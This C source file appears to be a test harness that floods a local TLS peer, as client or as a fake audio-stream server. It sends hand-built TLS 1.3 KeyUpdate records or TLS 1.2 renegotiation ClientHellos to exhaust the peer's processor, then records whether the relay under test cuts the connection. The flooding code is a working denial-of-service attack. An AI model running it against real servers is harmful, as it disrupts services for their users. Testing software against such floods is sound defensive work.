// TLS that never gets to the point: records that cost the other side's processor and carry nothing.
//
//   keyupdate client PORT SECONDS MODE   one connection after another, for this long
//   keyupdate server CERT KEY SECONDS MODE   a station with one title, and a little sound between
//                                        the records; prints its port first
//
// MODE is what is sent after the handshake, as fast as it is accepted:
//   update     TLS 1.3 KeyUpdates that request no answer
//   requested  TLS 1.3 KeyUpdates that request one each; the answers are read
//   unread     the same, and nothing is read
//   hello      TLS 1.2 ClientHellos (client only): each would begin a renegotiation
//
// The last line of output is a JSON object with what was done. A client waits a twentieth of a
// second before it connects again, so that handshakes are not what is measured.
#define OPENSSL_SUPPRESS_DEPRECATED  // SHA-256 without a fetch each time
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/sha.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 2000, MOST = 33 * BATCH + 64 };

static double ends;
static const char *mode;
static bool requested, unread, hello;
static unsigned char batch[MOST];

static _Noreturn void fail(const char *what) {
    perror(what);
    exit(1);
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void check(bool is_right, const char *what) {
    if (is_right) return;
    fprintf(stderr, "%s failed\n", what);
    exit(1);
}

// ---- What is sent -----------------------------------------------------------------------------

// Records made here and not by OpenSSL: it would not write a second ClientHello, and it takes
// longer to make its own KeyUpdates than to read them.
struct records {
    EVP_CIPHER_CTX *cipher;
    unsigned char secret[32], salt[12];
    uint64_t number;
};

static void number_into(unsigned char *into, uint64_t number) {
    for (int i = 7; i >= 0; i--, number >>= 8) into[i] = (unsigned char)number;
}

// A sealed record of this message; `known` is authenticated, and is or ends with its header.
static int sealed(struct records *of, unsigned char *into, const unsigned char *key,
                  const unsigned char nonce[12], const unsigned char *known, int known_size,
                  const unsigned char *message, int message_size) {
    int size = 0, rest = 0;
    check(EVP_EncryptInit_ex(of->cipher, NULL, NULL, key, nonce) == 1
          && EVP_EncryptUpdate(of->cipher, NULL, &rest, known, known_size) == 1
          && EVP_EncryptUpdate(of->cipher, into, &size, message, message_size) == 1
          && EVP_EncryptFinal_ex(of->cipher, into + size, &rest) == 1
          && EVP_CIPHER_CTX_ctrl(of->cipher, EVP_CTRL_AEAD_GET_TAG, 16, into + size) == 1,
          "a record");
    return size + 16;
}

// TLS 1.2: the client's keys (RFC 5246 section 6.3, RFC 5288).
static void begin_hellos(struct records *of, SSL *tls) {
    unsigned char master[48], seed[64], keys[40];
    char label[] = "key expansion", digest[] = "SHA256";
    SSL_SESSION_get_master_key(SSL_get_session(tls), master, sizeof master);
    SSL_get_server_random(tls, seed, 32);
    SSL_get_client_random(tls, seed + 32, 32);
    EVP_KDF *kind = EVP_KDF_fetch(NULL, "TLS1-PRF", NULL);
    EVP_KDF_CTX *kdf = EVP_KDF_CTX_new(kind);
    OSSL_PARAM parameters[] = {
        OSSL_PARAM_construct_utf8_string(OSSL_KDF_PARAM_DIGEST, digest, 0),
        OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SECRET, master, sizeof master),
        OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SEED, label, sizeof label - 1),
        OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SEED, seed, sizeof seed),
        OSSL_PARAM_construct_end()};
    check(EVP_KDF_derive(kdf, keys, sizeof keys, parameters) == 1, "the key expansion");
    EVP_KDF_CTX_free(kdf);
    EVP_KDF_free(kind);
    memcpy(of->salt, keys + 32, 4);
    of->number = 1;  // Finished was the first
    check(EVP_EncryptInit_ex(of->cipher, NULL, NULL, keys, NULL) == 1, "the key");
}

static int hello_record(struct records *of, unsigned char *into) {
    static const unsigned char message[4] = {1, 0, 0, 0};  // a ClientHello with nothing in it
    unsigned char nonce[12], known[13] = {0};
    memcpy(nonce, of->salt, 4);
    number_into(nonce + 4, of->number);
    number_into(known, of->number++);
    memcpy(known + 8, "\x16\x03\x03\x00\x04", 5);
    memcpy(into, "\x16\x03\x03\x00\x1c", 5);
    memcpy(into + 5, nonce + 4, 8);
    return 13 + sealed(of, into + 13, NULL, nonce, known, sizeof known, message, sizeof message);
}

// HKDF-Expand-Label of at most 32 bytes (RFC 8446 section 7.1, RFC 5869).
static void expand(const unsigned char secret[32], const char *label, int size,
                   unsigned char *into) {
    unsigned char text[64] = {0}, all[32];
    int at = 0;
    text[at++] = 0;
    text[at++] = (unsigned char)size;
    text[at++] = (unsigned char)(6 + strlen(label));
    at += sprintf((char *)text + at, "tls13 %s", label);
    text[at++] = 0;
    text[at++] = 1;
    unsigned char pad[64], inner[32];
    SHA256_CTX hash;
    for (int i = 0; i < 64; i++) pad[i] = (i < 32 ? secret[i] : 0) ^ 0x36;
    SHA256_Init(&hash);
    SHA256_Update(&hash, pad, 64);
    SHA256_Update(&hash, text, (size_t)at);
    SHA256_Final(inner, &hash);
    for (int i = 0; i < 64; i++) pad[i] ^= 0x36 ^ 0x5c;
    SHA256_Init(&hash);
    SHA256_Update(&hash, pad, 64);
    SHA256_Update(&hash, inner, 32);
    SHA256_Final(all, &hash);
    memcpy(into, all, (size_t)size);
}

// TLS 1.3: a record of at most 16 bytes under the current keys (RFC 8446 section 5.2).
static int record(struct records *of, unsigned char *into, const void *message, int size,
                  unsigned char type) {
    unsigned char key[16], nonce[12], inner[17];
    expand(of->secret, "key", 16, key);
    expand(of->secret, "iv", 12, nonce);
    for (int i = 0; i < 8; i++) nonce[4 + i] ^= (unsigned char)(of->number >> (56 - 8 * i));
    of->number++;
    memcpy(inner, message, (size_t)size);
    inner[size] = type;
    memcpy(into, "\x17\x03\x03\x00", 4);
    into[4] = (unsigned char)(size + 1 + 16);
    return 5 + sealed(of, into + 5, key, nonce, into, 5, inner, size + 1);
}

// Each one is the last record under its keys (RFC 8446 sections 4.6.3 and 7.2).
static int update_record(struct records *of, unsigned char *into) {
    const unsigned char message[5] = {24, 0, 0, 1, requested};
    const int size = record(of, into, message, sizeof message, 22);
    expand(of->secret, "traffic upd", 32, of->secret);
    of->number = 0;
    return size;
}

// The secret of our side, from the key log that OpenSSL writes for Wireshark.
static unsigned char own_secret[32];
static void key_line(const SSL *tls, const char *line) {
    const char *mine = SSL_is_server(tls) ? "SERVER_TRAFFIC_SECRET_0 " : "CLIENT_TRAFFIC_SECRET_0 ";
    if (strncmp(line, mine, strlen(mine))) return;
    line = strrchr(line, ' ') + 1;
    for (int i = 0; i < 32; i++) check(sscanf(line + 2 * i, "%2hhx", &own_secret[i]) == 1, "a key");
}

static bool is_station;

static struct records begin_records(SSL *tls) {
    struct records made = {.cipher = EVP_CIPHER_CTX_new()};
    check(EVP_EncryptInit_ex(made.cipher, EVP_aes_128_gcm(), NULL, NULL, NULL) == 1, "the cipher");
    memcpy(made.secret, own_secret, 32);
    // A station has already sent its answer, in one record.
    if (hello) begin_hellos(&made, tls);
    else made.number = is_station;
    return made;
}

static int next_batch(struct records *of) {
    int size = 0;
    // A station without a byte of sound would be given up as stalled.
    if (is_station) size = record(of, batch, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 16, 23);
    for (int i = 0; i < BATCH; i++)
        size += hello ? hello_record(of, batch + size) : update_record(of, batch + size);
    return size;
}

// ---- One connection ---------------------------------------------------------------------------

struct told {
    long connections, ended, bytes;
    double longest;
};

static bool is_over(int connection) {
    static char answers[65536];
    if (unread) return false;
    const ssize_t got = recv(connection, answers, sizeof answers, MSG_DONTWAIT);
    return got == 0 || (got < 0 && errno != EAGAIN && errno != EINTR);
}

// Until the other side ends the connection, or the time is over.
static void attack(SSL *tls, int connection, struct told *told) {
    struct records records = begin_records(tls);
    fcntl(connection, F_SETFL, O_NONBLOCK);
    const double began = now();
    int size = 0, sent = 0;
    bool ended = false;
    while (!ended && now() < ends) {
        if (sent == size) {
            size = next_batch(&records);
            sent = 0;
        }
        const ssize_t n = send(connection, batch + sent, (size_t)(size - sent), MSG_NOSIGNAL);
        if (n > 0) {
            sent += (int)n;
            told->bytes += n;
        } else if (errno == EAGAIN) {
            // A program that does not read the answers would be woken by them without end.
            struct pollfd wanted = {.fd = connection, .events = POLLOUT};
            if (!unread) wanted.events |= POLLIN;
            poll(&wanted, 1, 100);
        } else {
            ended = true;
        }
        ended = ended || is_over(connection);
    }
    const double took = now() - began;
    told->ended += ended;
    if (took > told->longest) told->longest = took;
    EVP_CIPHER_CTX_free(records.cipher);
}

static SSL_CTX *context(const SSL_METHOD *method) {
    SSL_CTX *made = SSL_CTX_new(method);
    const int version = hello ? TLS1_2_VERSION : TLS1_3_VERSION;
    SSL_CTX_set_min_proto_version(made, version);
    SSL_CTX_set_max_proto_version(made, version);
    check(SSL_CTX_set_cipher_list(made, "ECDHE-RSA-AES128-GCM-SHA256") == 1, "the cipher list");
    check(SSL_CTX_set_ciphersuites(made, "TLS_AES_128_GCM_SHA256") == 1, "the cipher suites");
    SSL_CTX_set_keylog_callback(made, key_line);
    return made;
}

static void limit_receiving(int connection) {
    const int size = 4096;
    if (unread) setsockopt(connection, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
}

static void say(struct told told) {
    printf("{\"connections\": %ld, \"ended by the relay\": %ld, \"MiB sent\": %.1f, "
           "\"longest, s\": %.2f}\n", told.connections, told.ended,
           (double)told.bytes / 1048576, told.longest);
    fflush(stdout);
}

// ---- As a client ------------------------------------------------------------------------------

static void be_client(int port) {
    SSL_CTX *tls_context = context(TLS_client_method());
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct told told = {0};
    while (now() < ends) {
        const int connection = socket(AF_INET, SOCK_STREAM, 0);
        limit_receiving(connection);
        const struct timeval limit = {.tv_sec = 20};
        setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
        if (connect(connection, (struct sockaddr *)&address, sizeof address)) fail("connect");
        SSL *tls = SSL_new(tls_context);
        SSL_set_fd(tls, connection);
        if (SSL_connect(tls) == 1) {
            told.connections++;
            attack(tls, connection, &told);
        }
        SSL_free(tls);
        close(connection);
        usleep(50000);
    }
    say(told);
}

// ---- As a station -----------------------------------------------------------------------------

static void be_station(SSL_CTX *tls_context, int connection, int report) {
    struct told told = {.connections = 1};
    char request[4096], *answer = calloc(1, 4096);
    SSL *tls = SSL_new(tls_context);
    SSL_set_fd(tls, connection);
    if (SSL_accept(tls) == 1 && SSL_read(tls, request, sizeof request) > 0) {
        int size = snprintf(answer, 4096, "HTTP/1.0 200 OK\r\nContent-Type: audio/mpeg\r\n"
                            "icy-metaint: 512\r\n\r\n");
        memcpy(answer + size + 512, "\2StreamTitle='A - B';", 21);
        SSL_write(tls, answer, size + 512 + 33);
        attack(tls, connection, &told);
    }
    if (write(report, &told, sizeof told) < 0) fail("write");
    exit(0);
}

static void be_server(const char *certificate, const char *key) {
    SSL_CTX *tls_context = context(TLS_server_method());
    check(SSL_CTX_use_certificate_chain_file(tls_context, certificate) == 1, "the certificate");
    check(SSL_CTX_use_PrivateKey_file(tls_context, key, SSL_FILETYPE_PEM) == 1, "the key");
    SSL_CTX_set_num_tickets(tls_context, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof address;
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    limit_receiving(listener);
    if (bind(listener, (struct sockaddr *)&address, length) || listen(listener, 64)) fail("listen");
    if (getsockname(listener, (struct sockaddr *)&address, &length)) fail("getsockname");
    printf("%d\n", ntohs(address.sin_port));
    fflush(stdout);
    int reports[2];
    if (pipe(reports)) fail("pipe");
    while (now() < ends) {
        struct pollfd wanted = {.fd = listener, .events = POLLIN};
        if (poll(&wanted, 1, 100) < 1) continue;
        const int connection = accept(listener, NULL, NULL);
        const pid_t child = fork();
        if (child < 0) fail("fork");
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            be_station(tls_context, connection, reports[1]);
        }
        close(connection);
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
    while (waitpid(-1, NULL, 0) > 0) {}
    close(reports[1]);
    struct told all = {0}, one;
    while (read(reports[0], &one, sizeof one) == sizeof one) {
        all.connections += one.connections;
        all.ended += one.ended;
        all.bytes += one.bytes;
        if (one.longest > all.longest) all.longest = one.longest;
    }
    say(all);
}

int main(int argc, char **argv) {
    const bool is_client = argc == 5 && !strcmp(argv[1], "client");
    if (!is_client && (argc != 6 || strcmp(argv[1], "server"))) return 64;
    const double seconds = atof(argv[argc - 2]);
    mode = argv[argc - 1];
    hello = !strcmp(mode, "hello");
    unread = !strcmp(mode, "unread");
    requested = unread || !strcmp(mode, "requested");
    ends = now() + seconds;
    is_station = !is_client;
    alarm((unsigned)seconds + 30);  // whatever happens
    if (is_client) be_client(atoi(argv[2]));
    else be_server(argv[2], argv[3]);
    return 0;
}
